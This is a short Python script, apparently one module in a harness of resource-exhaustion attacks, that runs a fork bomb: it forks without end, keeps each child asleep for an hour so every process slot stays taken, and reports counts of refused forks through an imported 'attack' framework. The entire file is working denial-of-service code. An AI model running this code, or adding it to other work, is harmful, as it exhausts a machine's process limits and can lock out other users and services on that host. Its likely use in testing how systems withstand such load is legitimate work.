"""Forks without end at its first decision; every child sleeps (and keeps its slot)."""

import os
import time

from attack import main, report


def bomb() -> None:
    made = refused = 0
    while True:
        try:
            if os.fork() == 0:
                time.sleep(3600)
                os._exit(0)
            made += 1
        except OSError:
            refused += 1
            if refused % 100 == 1:
                report("fork", made=made, refused=refused)


main(bomb)
